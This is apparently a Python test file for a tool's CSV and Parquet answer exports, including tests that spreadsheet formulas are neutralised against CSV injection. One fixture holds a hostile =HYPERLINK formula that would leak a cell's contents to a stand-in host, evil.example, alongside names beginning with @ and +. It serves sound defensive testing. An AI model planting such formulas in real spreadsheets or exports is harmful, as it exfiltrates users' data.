"""Exports round-trip through pandas in both formats, and the command line writes them."""

from __future__ import annotations

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from kit.analysis import export_answers, read_export
from kit.analysis.export import (EXPORT_COLUMNS, FORMULA_TRIGGERS, _PLAIN_NUMBER, neutralize_formula,
                                 restore_formula)
from kit.cli import main
from tests.analysis import SCRIPT, exercises, fill, new_store


@pytest.fixture
def filled(tmp_path):
    store = new_store(tmp_path)
    fill(store, "Cohort, \"quoted\"\nnewline")
    fill(store, "Cohort B", people=3, prefix="b")
    yield store
    store.dispose()


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_export_round_trips_through_pandas(filled, tmp_path, suffix):
    """Does reading an export back with pandas give exactly the frame that was written, types included?"""
    path = tmp_path / f"answers.{suffix}"
    written = export_answers(filled, path, exercises=exercises(), include_private_text=True)
    back = read_export(path)
    pd.testing.assert_frame_equal(back, written, check_dtype=(suffix == "parquet"))
    assert list(back.columns) == [c for c in EXPORT_COLUMNS if c != "display_name"]
    assert SCRIPT in set(back["answer"].dropna())
    plain = pd.read_csv(path) if suffix == "csv" else pd.read_parquet(path)
    assert len(plain) == len(written)


def test_cli_export_one_session_and_all(filled, tmp_path):
    """Does `mentorkit export` write one session or all of them, in the format asked for?"""
    db = filled.url
    code = filled.list_sessions()[-1].code
    runner = CliRunner()
    one = runner.invoke(main, ["export", "--session", code, "--format", "parquet", "-o", str(tmp_path / "one.pq"),
                               "--db", db])
    assert one.exit_code == 0, one.output
    assert set(pd.read_parquet(tmp_path / "one.pq")["session_code"]) == {code}
    every = runner.invoke(main, ["export", "--all", "-o", str(tmp_path / "all.csv"), "--db", db, "--latest-only"])
    assert every.exit_code == 0, every.output
    frame = read_export(tmp_path / "all.csv")
    assert frame["session_code"].nunique() == 2 and frame["is_latest"].all()


@pytest.mark.parametrize("args,needle", [
    (["--session", "NOPE99"], "NOPE99"),
    ([], "--all"),
    (["--all", "--session", "ABCDEF"], "--all"),
])
def test_cli_export_errors(filled, tmp_path, args, needle):
    """Are an unknown code and a missing or doubled choice of sessions one clear error?"""
    result = CliRunner().invoke(main, ["export", *args, "-o", str(tmp_path / "x.csv"), "--db", filled.url])
    assert result.exit_code != 0 and needle in result.output and "Traceback" not in result.output
    assert not (tmp_path / "x.csv").exists()


def test_cli_export_unwritable_path(filled, tmp_path):
    """Is a path that cannot be written one clear error naming it?"""
    target = tmp_path / "missing-folder" / "x.csv"
    result = CliRunner().invoke(main, ["export", "--all", "-o", str(target), "--db", filled.url])
    assert result.exit_code != 0 and "Cannot write" in result.output and str(target) in result.output


# --- spreadsheet formulas (OWASP "CSV injection") -------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your results")'


@pytest.fixture
def hostile(tmp_path):
    """A session whose facilitator named it "+cohort", with a shared =HYPERLINK answer, people named
    "@admin" and "+Sam", a shared note that is a plain negative number, and one that starts with "'="."""
    store = new_store(tmp_path)
    session = store.create_session("+cohort")
    notes = {"@admin": HYPERLINK, "+Sam": "-2", "Kim": "'=already quoted", "Lee": "-2+3"}
    for n, (name, note) in enumerate(notes.items()):
        person = store.join(session.code, name)
        store.submit(person.key, "check", {"a": "yes", "b": "no", "note": note, "_shared": ["note"]},
                     submission_id=f"h{n}")
    yield store, session.code
    store.dispose()


def test_csv_export_neutralises_formulas(hostile, tmp_path):
    """Read with pandas and with the csv module, does every text cell that could start a formula begin
    with ' (a negative number left alone), while read_export and Parquet give the exact text back?"""
    import csv

    store, code = hostile
    path = tmp_path / "answers.csv"
    written = export_answers(store, path, exercises=exercises(), include_names=True)
    notes = written.loc[written["item_id"] == "note", "answer"].tolist()
    assert HYPERLINK in notes  # the frame in memory is exact

    plain = pd.read_csv(path, dtype=str, keep_default_na=False)
    cells = set(plain["answer"])
    assert "'" + HYPERLINK in cells and HYPERLINK not in cells
    assert "'-2+3" in cells  # a sum is a formula
    assert "''=already quoted" in cells  # shows as "'=already quoted" in a spreadsheet
    assert "-2" in cells  # a number is not a formula
    assert set(plain["display_name"]) == {"'@admin", "'+Sam", "Kim", "Lee"}
    assert set(plain["cohort"]) == {"'+cohort"}
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["answer"] for row in rows if row["item_id"] == "note"} == {
        "'" + HYPERLINK, "-2", "''=already quoted", "'-2+3"}
    assert all(not row[c].startswith(("=", "+", "-", "@", "\t", "\r")) or row[c] == "-2"
               for row in rows for c in row)
    assert {row["revision"] for row in rows} == {"1"}  # numeric columns are written as numbers

    back = read_export(path)
    pd.testing.assert_frame_equal(back, written, check_dtype=False)

    parquet = tmp_path / "answers.parquet"
    export_answers(store, parquet, exercises=exercises(), include_names=True)
    exact = pd.read_parquet(parquet)
    assert set(exact.loc[exact["item_id"] == "note", "answer"]) == {HYPERLINK, "-2", "'=already quoted", "-2+3"}
    assert set(exact["display_name"]) == {"@admin", "+Sam", "Kim", "Lee"}


def test_console_csv_neutralises_formulas(hostile):
    """Is the console's CSV download made safe the same way?"""
    import csv
    import io

    from kit.analysis.export import session_csv

    store, code = hostile
    rows = list(csv.DictReader(io.StringIO(session_csv(store, code).decode("utf-8"))))
    assert "'" + HYPERLINK in {row["answer"] for row in rows}
    assert {row["cohort"] for row in rows} == {"'+cohort"}


@given(st.text(alphabet=st.one_of(st.sampled_from("'=+-@\t\r1.eE "), st.characters()), max_size=12))
def test_neutralising_is_undone_exactly(text):
    """Does restore_formula give back exactly the text neutralize_formula was given, and is the
    neutralised text never one a spreadsheet would run?"""
    safe = neutralize_formula(text)
    assert restore_formula(safe) == text
    assert not safe.startswith(FORMULA_TRIGGERS) or _PLAIN_NUMBER.fullmatch(safe)
